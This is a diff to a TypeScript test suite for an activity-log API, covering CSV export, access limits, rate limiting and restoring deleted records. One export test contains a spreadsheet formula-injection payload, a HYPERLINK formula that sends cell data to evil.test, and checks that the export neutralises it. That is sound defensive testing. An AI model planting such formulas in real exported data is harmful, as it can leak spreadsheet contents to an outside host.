@@ -1,5 +1,17 @@
+import { parse } from 'csv-parse/sync';
+import { type RecordKind, recordKindList, recordKinds } from 'shared-lib/records';
 import { runAs } from '../../test/fresh-database';
+import { type RecordClient, recordClient } from '../../test/record-client';
 import { type DemoName, type ServedDemo, serveDemo } from '../../test/serve-backend';
+
+let served: ServedDemo;
+beforeAll(async () => {
+  served = await serveDemo();
+  await served.as('editor@demo.test').post('/api/circular/add', { topic: 'Own', link: 'https://x.test' });
+  await served.as('admin@demo.test').post('/api/circular/add', { topic: 'Theirs', link: 'https://x.test' });
+  await served.post('/api/login', { username: 'editor@demo.test', password: 'wrong' });
+});
+afterAll(() => served?.close());
 
 type Line = {
   id: string;
@@ -13,20 +25,14 @@ type Line = {
   view: { kind: string; id: number } | null;
 };
 
-let served: ServedDemo;
-beforeAll(async () => {
-  served = await serveDemo();
-  await served.as('editor@demo.test').post('/api/circular/add', { topic: 'Own', link: 'https://x.test' });
-  await served.as('admin@demo.test').post('/api/circular/add', { topic: 'Theirs', link: 'https://x.test' });
-  await served.post('/api/login', { username: 'editor@demo.test', password: 'wrong' });
-});
-afterAll(() => served.close());
-
 const rows = <Row extends object>(sql: string) => runAs<Row>(served.database.admin, sql);
+
 const list = (body: object = {}, username: DemoName = 'admin@demo.test') =>
   served.as(username).post('/api/activity-log/list', body);
+
 const linesOf = async (body: object, username?: DemoName) => (await list(body, username)).body.data as Line[];
 const totalOf = async (body: object, username?: DemoName) => (await list(body, username)).body.totalLength;
+
 async function counted(condition: string): Promise<number | undefined> {
   const [row] = await rows<{ count: number }>(
     `select count(*)::integer as count from journal where org_id = 1 and ${condition}`,
@@ -36,7 +42,6 @@ async function counted(condition: string): Promise<number | undefined> {
 
 const editorId = "(select id from account where username = 'editor@demo.test')";
 const ofEditor = `(actor_id = ${editorId} or (chain = 'activity' and kind = 'account' and record_id = ${editorId}))`;
-
 const doors = "action in ('Signed in', 'Sign-in failed', 'Code refused', 'Locked out', 'Signed out')";
 
 describe('activity-log/list', () => {
@@ -173,5 +178,255 @@ describe('activity-log/actions', () => {
     await served.post('/api/login', { username: 'viewer@demo.test', password: 'wrong' });
     expect(await actionsOf('viewer@demo.test')).toEqual(['Sign-in failed']);
     expect(await actionsOf('editor@demo.test')).toEqual(await among(ofEditor));
+  });
+});
+
+describe('the export of the log', () => {
+  let served: ServedDemo;
+  beforeAll(async () => {
+    served = await serveDemo({ LIMIT_FACTOR: '2' });
+  });
+  afterAll(() => served.close());
+
+  type Row = Record<string, string>;
+
+  function take(username: DemoName, filter: Record<string, string> = {}): Promise<Response> {
+    const { token } = served.as(username);
+    const query = new URLSearchParams({ ...filter, accessusername: username });
+    return fetch(`${served.address}/api/activity-log/export?${query}`, { headers: { authorization: token } });
+  }
+
+  async function rowsOf(response: Response): Promise<Row[]> {
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    return parse(bytes, { bom: true, columns: true });
+  }
+
+  const entries = (username: DemoName, body: object) =>
+    served.as(username).post('/api/activity-log/list', { ...body, pageSize: 200 });
+
+  describe('activity-log/export', () => {
+    it('contains all pages of the log in their order', async () => {
+      const { body } = await entries('admin@demo.test', {});
+      const response = await take('admin@demo.test');
+      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+      expect(response.headers.get('content-disposition')).toBe('attachment; filename="system-logs.csv"');
+      const ids = (await rowsOf(response)).map(({ Entry }) => Entry);
+      // The export's own entry comes first.
+      expect(ids).toHaveLength(Number(body.totalLength) + 1);
+      expect(new Set(ids).size).toBe(ids.length);
+      expect(ids.slice(1, 201)).toEqual((body.data as { id: string }[]).map(({ id }) => id));
+      expect(ids.length).toBeGreaterThan(1_000);
+    });
+
+    it('uses the same filters as the list', async () => {
+      const rows = await rowsOf(await take('admin@demo.test', { kind: 'law', action: 'Published' }));
+      const { body } = await entries('admin@demo.test', { kind: 'law', action: 'Published' });
+      expect(rows.map(({ Entry }) => Entry)).toEqual((body.data as { id: string }[]).map(({ id }) => id));
+      expect(new Set(rows.map(({ Kind, Action }) => `${Kind} ${Action}`))).toEqual(
+        new Set(['Law Published']),
+      );
+    });
+
+    it('neutralises a formula in a name', async () => {
+      const topic = '=HYPERLINK("http://evil.test?"&A1,"see")';
+      await served.as('editor@demo.test').post('/api/circular/add', { topic, link: 'https://x.test' });
+      const [row] = await rowsOf(await take('admin@demo.test', { kind: 'circular', user: 'editor' }));
+      expect(row).toMatchObject({ Name: `'${topic}`, Address: '127.0.0.1', Program: 'node' });
+    });
+
+    it('contains for a user who is no administrator only their own part', async () => {
+      const rows = await rowsOf(await take('viewer@demo.test', { user: 'admin' }));
+      expect(rows).toEqual([]);
+      const own = await rowsOf(await take('viewer@demo.test'));
+      expect(new Set(own.map(({ User }) => User))).toEqual(new Set(['viewer@demo.test']));
+    });
+
+    it('contains nothing of another organisation', async () => {
+      const rows = await rowsOf(await take('admin@other.test'));
+      expect(rows.length).toBeGreaterThan(0);
+      expect(rows.filter(({ User }) => User?.endsWith('@demo.test'))).toEqual([]);
+    });
+
+    it('needs the token: a link with only the cookie is refused', async () => {
+      const response = await fetch(`${served.address}/api/activity-log/export`);
+      expect(response.status).toBe(401);
+    });
+
+    it.each<Record<string, string>>([
+      { from: 'yesterday' },
+      { userId: 'x' },
+      { user: 'x'.repeat(400) },
+      { usr: 'editor' },
+    ])('refuses %j', async (filter) => {
+      const response = await take('viewer@demo.test', filter);
+      expect([response.status, response.headers.get('content-type')]).toEqual([
+        422,
+        'application/json; charset=utf-8',
+      ]);
+    });
+
+    it('has an entry in the log, and is limited to ten in ten minutes at twice the usual limits', async () => {
+      const statuses: number[] = [];
+      for (let nth = 0; nth < 10; nth += 1) {
+        const response = await take('admin@other.test');
+        await response.text();
+        statuses.push(response.status);
+      }
+      expect(statuses).toEqual([...Array.from({ length: 9 }, () => 200), 429]);
+      const noted = await runAs(
+        served.database.admin,
+        "select 1 from journal where org_id = 2 and action = 'Log exported' and ip is not null",
+      );
+      expect(noted).toHaveLength(10);
+    });
+  });
+});
+
+describe('activity log', () => {
+  let served: ServedDemo;
+  beforeAll(async () => {
+    served = await serveDemo();
+  });
+  afterAll(() => served?.close());
+
+  type Changes = Record<string, unknown>;
+  type Line = { id: string; changes: Changes };
+
+  /** Returns the values of a field type in all changes to licenses, before and after. */
+  function told(lines: readonly { changes: Changes }[], type: 'law' | 'choices'): unknown[] {
+    const names = Object.entries(recordKinds.license.fields).flatMap(([name, field]) =>
+      field.type === type ? [name] : [],
+    );
+    return lines.flatMap(({ changes }) => names.flatMap((name) => changes[name] ?? [])).flat(2);
+  }
+
+  it('shows law codes and option names instead of ids', async () => {
+    const kept = await runAs<{ changes: Changes }>(
+      served.database.admin,
+      `select changes from journal where org_id = 1 and kind = 'license' order by at desc, seq desc limit 200`,
+    );
+    const isId = (value: unknown) => typeof value === 'number' || /^\d+$/.test(String(value));
+    expect(told(kept, 'law').some(isId)).toBe(true);
+    expect(told(kept, 'choices').some(isId)).toBe(true);
+    const { body } = await served
+      .as('admin@demo.test')
+      .post('/api/activity-log/list', { kind: 'license', pageSize: 200 });
+    const lines = body.data as Line[];
+    const [laws, options] = [told(lines, 'law'), told(lines, 'choices')];
+    expect(laws.some((code) => /^[A-Z]{2}[\w-]+$/.test(String(code)))).toBe(true);
+    expect([...laws, ...options].filter(isId)).toEqual([]);
+    expect(options.some((name) => typeof name === 'string' && name.length > 3)).toBe(true);
+  });
+});
+
+describe('restore from the log', () => {
+  type Line = { kind: string; recordId: number; restorable: { kind: string; id: number } | null };
+  const editor = 'editor@demo.test';
+  const admin = 'admin@demo.test';
+  const { law: lawKind, license } = recordKinds;
+  let served: ServedDemo;
+  let client: RecordClient;
+  let law: number;
+  beforeAll(async () => {
+    served = await serveDemo();
+    client = recordClient(served);
+    law = await client.addLaw({ Central: 'State' });
+  });
+  afterAll(() => served.close());
+
+  const stored = ({ name }: RecordKind) => name.replace('-', '_');
+
+  const remove = (kind: RecordKind, id: number, by: DemoName = editor) =>
+    client.post(by, kind.calls.remove, { id, reason: 'Entered twice' });
+
+  const restore = (kind: RecordKind, id: number) => client.post(editor, kind.calls.restore, { id });
+
+  async function deleted(kind: RecordKind = license): Promise<number> {
+    const id = await client.draft(kind, law);
+    await remove(kind, id);
+    return id;
+  }
+
+  const linesOf = async (body: object, username: DemoName) =>
+    (await served.as(username).post('/api/activity-log/list', { pageSize: 200, ...body })).body
+      .data as Line[];
+
+  /** Returns what a reader can restore from the log entries of a record's deletions, newest first. */
+  async function offered(
+    id: number,
+    { kind = license, to = editor }: { kind?: RecordKind; to?: DemoName } = {},
+  ) {
+    const lines = await linesOf({ kind: stored(kind), action: 'Deleted' }, to);
+    return lines.flatMap(({ recordId, restorable }) => (recordId === id ? [restorable] : []));
+  }
+
+  const setDeleted = (id: number, when: string) =>
+    client.rows(
+      `update record set deleted_at = ${when} where org_id = 1 and kind = 'license' and id = ${id}`,
+    );
+
+  describe.each(recordKindList)('a deleted $name', (kind) => {
+    it('can be restored from the log by who deleted it and by administrators, until it is restored', async () => {
+      const id = await deleted(kind);
+      const offer = { kind: kind.name, id };
+      expect(await offered(id, { kind })).toEqual([offer]);
+      expect(await offered(id, { kind, to: admin })).toEqual([offer]);
+      expect((await restore(kind, id)).body.success).toBe(1);
+      expect(await offered(id, { kind })).toEqual([null]);
+      expect(await offered(id, { kind, to: admin })).toEqual([null]);
+    });
+  });
+
+  test('only the newest deletion of a record offers it', async () => {
+    const id = await deleted();
+    await restore(license, id);
+    await remove(license, id, admin);
+    expect(await offered(id, { to: admin })).toEqual([{ kind: 'license', id }, null]);
+    expect(await offered(id)).toEqual([null]);
+  });
+
+  test('each of several records deleted at once offers it', async () => {
+    const ids = [await client.draft(license, law), await client.draft(license, law)];
+    await client.post(editor, license.calls.removeMany, { rows: ids.map((id) => ({ id })), reason: 'Both' });
+    for (const id of ids) expect(await offered(id)).toEqual([{ kind: 'license', id }]);
+  });
+
+  test.each([
+    ["now() - interval '29 days'", true],
+    ["now() - interval '31 days'", false],
+  ])('deleted at %s is offered and can be restored: %p', async (when, is) => {
+    const id = await deleted();
+    await setDeleted(id, when);
+    expect(await offered(id)).toEqual([is ? { kind: 'license', id } : null]);
+    expect((await restore(license, id)).body.success).toBe(is ? 1 : 0);
+  });
+
+  test('other actions and deletions offer nothing', async () => {
+    await deleted(lawKind);
+    await served.as(editor).post('/api/circular/add', { topic: 'Own', link: 'https://x.test' });
+    const [{ recordId: circular } = { recordId: 0 }] = await linesOf({ kind: 'circular' }, editor);
+    await served.as(editor).post('/api/circular/delete', { id: circular, reason: 'Gone' });
+    const lines = (await linesOf({}, admin)) as (Line & { action: string })[];
+    const offering = lines.filter(({ restorable }) => restorable);
+    expect(new Set(offering.map(({ action }) => action))).toEqual(new Set(['Deleted']));
+    expect(offering.map(({ kind }) => kind)).not.toContain('circular');
+    expect(lines.filter(({ kind, action }) => kind === 'circular' && action === 'Deleted')).toHaveLength(1);
+  });
+
+  test('another organisation is offered nothing', async () => {
+    await deleted();
+    const lines = await linesOf({}, 'admin@other.test');
+    expect(lines.filter(({ restorable }) => restorable)).toEqual([]);
+  });
+
+  test('a user who has lost Edit access is offered nothing', async () => {
+    const id = await deleted();
+    const setEdit = (may: boolean) =>
+      client.rows(`update account set may_edit = ${may} where username = '${editor}'`);
+    await setEdit(false);
+    expect(await offered(id)).toEqual([null]);
+    await setEdit(true);
+    expect(await offered(id)).toEqual([{ kind: 'license', id }]);
   });
 });
